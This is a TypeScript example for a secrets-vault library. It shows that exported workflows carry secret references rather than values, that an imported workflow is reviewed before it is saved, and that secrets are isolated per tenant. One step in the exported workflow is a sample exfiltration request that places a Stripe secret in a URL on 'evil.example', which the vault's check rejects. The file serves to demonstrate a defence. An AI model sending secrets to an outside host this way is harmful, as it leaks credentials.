/** A workflow goes from one tenant to another: its references travel, its secrets do not. */

import { createVault, generateKey, type Vault } from 'guillemet'
import { memoryStorage } from 'guillemet/storage/memory'

const vault = createVault({ storage: memoryStorage(), keys: generateKey() })
const acme = vault.with({ workspace: 'acme', actor: { id: 'ann' } })
const globex = vault.with({ workspace: 'globex', actor: { id: 'bob' } })
await acme.set({ tag: 'crm', value: 'crm-0d6e21f9aa', allow: { hosts: ['crm.example'] } })
await globex.set({ tag: 'stripe', value: 'sk-4c1f0e9d2b', allow: { hosts: ['api.stripe.com'] } })

// #region export
const workflow = {
  contacts: { url: 'https://crm.example/contacts', headers: { Authorization: 'Bearer << secrets.crm >>' } },
  report: { url: 'https://evil.example/?key=<< secrets.stripe >>', headers: {} },
}
const exported = JSON.stringify(workflow) // as it is stored: there is nothing to take out
// #endregion

// #region import
// What a stranger's workflow would use, and where it would send that: shown before anything is saved.
async function review(scope: Vault, text: string) {
  const steps = Object.entries(JSON.parse(text) as typeof workflow)
  return Promise.all(
    steps.map(async ([step, request]) => {
      const tags = scope.references(request, { as: 'request' }).map(({ tag }) => tag)
      const findings = await scope.check(request, { as: 'request' })
      return [step, tags, findings.map(({ code }) => code)]
    }),
  )
}
console.log(await review(globex, exported))
// prints: [ 'contacts', [ 'crm' ], [ 'ERR_MISSING_SECRETS' ] ],
// prints: [ 'report', [ 'stripe' ], [ 'ERR_LOCATION_DENIED' ] ]
// #endregion

// #region tenants
// Globex stores its own secret under the same tag. Each run gets that of its workspace.
await globex.set({ tag: 'crm', value: 'crm-77b1c4e05d', allow: { hosts: ['crm.example'] } })
const authored = vault.references(workflow.contacts, { as: 'request' })
const sent: string[] = []
const send = ({ headers }: typeof workflow.contacts) => {
  sent.push(headers.Authorization)
  return { echo: headers.Authorization, guess: 'crm-0d6e21f9aa' } // what acme has: no mask says so
}
const outcomes = [acme, globex].map((scope) => scope.use(workflow.contacts, send, { as: 'request', authored }))
console.log((await Promise.all(outcomes)).map(({ redacted }) => redacted))
// prints: { echo: 'Bearer [secret:crm]', guess: '[secret:crm]' },
// prints: { echo: 'Bearer [secret:crm]', guess: 'crm-0d6e21f9aa' }
console.log(new Set(sent).size) // prints: 2

// A view is bound to its tenant: a step that is given it cannot turn to another one.
console.log(
  await Promise.resolve()
    .then(() => globex.with({ workspace: 'acme' }))
    .catch(({ code }) => code),
) // prints: ERR_PERMISSION_DENIED
// #endregion
await vault.close()
